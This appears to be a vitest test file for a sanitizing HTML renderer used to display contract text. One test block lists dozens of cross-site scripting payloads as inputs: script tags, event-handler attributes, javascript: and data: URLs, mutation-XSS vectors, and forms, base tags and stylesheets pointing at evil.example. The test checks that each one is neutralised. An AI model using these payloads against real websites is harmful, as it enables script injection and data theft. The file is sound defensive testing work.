import { parseDocument } from 'htmlparser2'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { type MarkupNode, renderMarkup } from './contract-markup.ts'
import { loadWords } from './words.ts'

await loadWords('english')

type Parsed = ReturnType<typeof parseDocument>
type ChildNode = Parsed['children'][number]

const asNode = (node: ChildNode | Parsed): MarkupNode => ({
  nodeType: node.nodeType,
  nodeName: 'name' in node ? node.name : '#other',
  nodeValue: 'data' in node ? node.data : null,
  get textContent() {
    return textOf(node)
  },
  get childNodes() {
    return 'childNodes' in node ? node.childNodes.map(asNode) : []
  },
  getAttribute: (name) => ('attribs' in node ? (node.attribs[name] ?? null) : null),
})
const textOf = (node: ChildNode | Parsed): string => {
  if ('data' in node) return node.type === 'text' ? node.data : ''
  return 'childNodes' in node ? node.childNodes.map(textOf).join('') : ''
}

const renderWithDirections = (html: string) =>
  renderToStaticMarkup(
    createElement(
      'main',
      null,
      renderMarkup(Array.from(asNode(parseDocument(html.replaceAll(' style=', ' data-style='))).childNodes)),
    ),
  ).replace(/^<main>|<\/main>$/g, '')
const render = (html: string) => renderWithDirections(html).replaceAll(' dir="auto"', '')

const ALLOWED_TAGS =
  /^(h[3-6]|p|div|blockquote|pre|ul|ol|li|dl|dt|dd|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td|strong|em|u|s|sub|sup|code|span|a|br|hr|img|main)$/
const ALLOWED_ATTRIBUTES =
  /^(class|lang|dir|href|target|rel|start|type|src|alt|width|colspan|rowspan|scope|role|tabindex|aria-label)$/

const values: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|tel:)/,
  src: /^data:image\/(png|jpeg|gif|webp);base64,/,
  class: /^contract-/,
}
const harmless = (name: string, value: string) =>
  ALLOWED_ATTRIBUTES.test(name) && (values[name]?.test(value) ?? true)

/** Every element and attribute of an HTML text. */
function inventory(html: string) {
  const tags: string[] = []
  const attributes: [string, string][] = []
  const walk = (nodes: ChildNode[]) => {
    for (const node of nodes) {
      if (!('attribs' in node)) continue
      tags.push(node.name)
      attributes.push(...Object.entries(node.attribs))
      walk(node.children)
    }
  }
  walk(parseDocument(html).children)
  return { tags, attributes }
}

describe('contract text that tries to run something', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/track.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#10;script:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<p onclick=alert(1) onmouseover=alert(1)>x</p>',
    '<p style="background:url(javascript:alert(1));text-align:center">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<div id="root" class="primary" name="root">x</div>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=x><button formaction="javascript:alert(1)">y</button></form>',
    '<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<style>@import "//evil.example/x.css"</style>',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<x-y onclick=alert(1)>x</x-y>',
    '<constructor>x</constructor><toString>x</toString><__proto__>x</__proto__>',
    '<p dangerouslySetInnerHTML="{__html: 1}" ref="x" key="y">x</p>',
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
    '<p lang="x&quot; onclick=alert(1)" dir="rtl onclick">x</p>',
    '<ol type="javascript:1" start="-1e9">x</ol>',
  ])('%s comes out harmless', (html) => {
    const { tags, attributes } = inventory(render(html))
    expect(tags.filter((tag) => !ALLOWED_TAGS.test(tag))).toEqual([])
    expect(attributes.filter(([name, value]) => !harmless(name, value))).toEqual([])
  })

  it('shows typed markup as the letters that were typed', () => {
    expect(render('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    )
  })

  it('keeps its words when it is nested beyond reason', () => {
    expect(render(`${'<div>'.repeat(500)}the end${'</div>'.repeat(500)}`)).toContain('the end')
  })
})

describe('contract text', () => {
  it.each([
    ['<h1>A</h1><h2>B</h2>', '<h3 class="contract-h1">A</h3><h4 class="contract-h2">B</h4>'],
    ['<p style="text-align: right">1</p>', '<p class="contract-right">1</p>'],
    ['<p style="color:red; text-align:center">1</p>', '<p class="contract-center">1</p>'],
    ['<b>a</b> <i>b</i>', '<strong>a</strong> <em>b</em>'],
    ['<ol start="3" type="a"><li>x</li></ol>', '<ol start="3" type="a"><li>x</li></ol>'],
    [
      '<ol start="17" type="i"><li>x</li><li>y</li><li>z</li></ol>',
      '<ol class="contract-wide-numbers" start="17" type="i"><li>x</li><li>y</li><li>z</li></ol>',
    ],
    ['<blink>kept</blink>', '<span>kept</span>'],
    ['<p dir="rtl" lang="ar">نص</p>', '<p lang="ar" dir="rtl">نص</p>'],
    [
      '<a href="https://a.example">a</a>',
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    ],
    [
      '<img src="data:image/png;base64,AAAA" alt="Plan">',
      '<img src="data:image/png;base64,AAAA" alt="Plan"/>',
    ],
    ['<img src="https://evil.example/x.png" alt="Plan">', '<span>[This image can’t be shown]</span>'],
    ['<p>1 <span dir="rtl">2 - 3</span></p>', '<p>1 <span>2 - 3</span></p>'],
  ])('%s is shown as %s', (html, expected) => {
    expect(render(html)).toBe(expected)
  })

  it('runs as its own words do, and a paragraph that is only a place as the whole contract', () => {
    const place = '<span data-place="1">Initials of Ada</span>'
    expect(renderWithDirections(`<p>${place}</p>`)).toMatch(/^<p><span/)
    expect(renderWithDirections(`<p>Rent <b>${place}</b></p>`)).toMatch(/^<p dir="auto">Rent/)
    expect(renderWithDirections(`<div><p><b> ${place} </b>رقم</p></div>`)).toMatch(
      /^<div dir="auto"><p dir="auto">/,
    )
  })

  it('has its tables in a box that scrolls and can be reached by keyboard', () => {
    const html = `<table>
      <thead><tr><th>Fee</th></tr></thead>
      <tbody><tr><td colspan="2" rowspan="3" style="text-align:right">$1</td></tr></tbody>
    </table>`
    expect(render(html)).toBe(
      '<div class="contract-table" role="group" tabindex="0" aria-label="Table"><table><thead><tr>' +
        '<th scope="col">Fee</th></tr></thead><tbody><tr>' +
        '<td class="contract-right" colSpan="2" rowSpan="3">$1</td></tr></tbody></table></div>',
    )
  })

  it('knows the cells with a word that no column of a small phone has room for', () => {
    const cells = '<td>Miriam Castellano</td><td>legal@harbor.example</td>'
    expect(render(`<table><tr>${cells}</tr></table>`)).toContain(
      '<td>Miriam Castellano</td><td class="contract-long">legal@harbor.example</td>',
    )
  })

  it('sets a cell of figures where its table begins, unless the author set it elsewhere', () => {
    const cells = '<td>25,000.00</td><td style="text-align:center">1</td><td>المبلغ 5</td>'
    expect(render(`<table><tr>${cells}</tr></table>`)).toContain(
      '<td class="contract-figures">25,000.00</td><td class="contract-center">1</td><td>المبلغ 5</td>',
    )
  })

  it('keeps absurd spans within reason', () => {
    expect(render('<table><tr><td colspan="99999" rowspan="-4">x</td></tr></table>')).toContain(
      '<td colSpan="40">x</td>',
    )
  })
})
